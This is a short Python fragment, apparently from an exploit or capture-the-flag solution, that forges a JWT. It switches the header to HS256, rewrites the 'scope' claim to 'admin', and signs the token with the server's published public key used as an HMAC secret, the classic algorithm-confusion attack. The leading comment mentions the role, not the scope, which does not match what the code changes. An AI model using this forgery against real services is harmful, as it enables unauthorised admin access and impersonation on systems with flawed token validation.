# requirement: the role, not the scope
new_header = {"alg": "HS256", "typ": "at+jwt", "kid": header["kid"]}
new_claims = json.loads(claims)
new_claims["scope"] = "admin"
pem = pem_of(mine.find_key(published, header["kid"]))
forged = mine.sign_hs256(new_header, new_claims, pem)
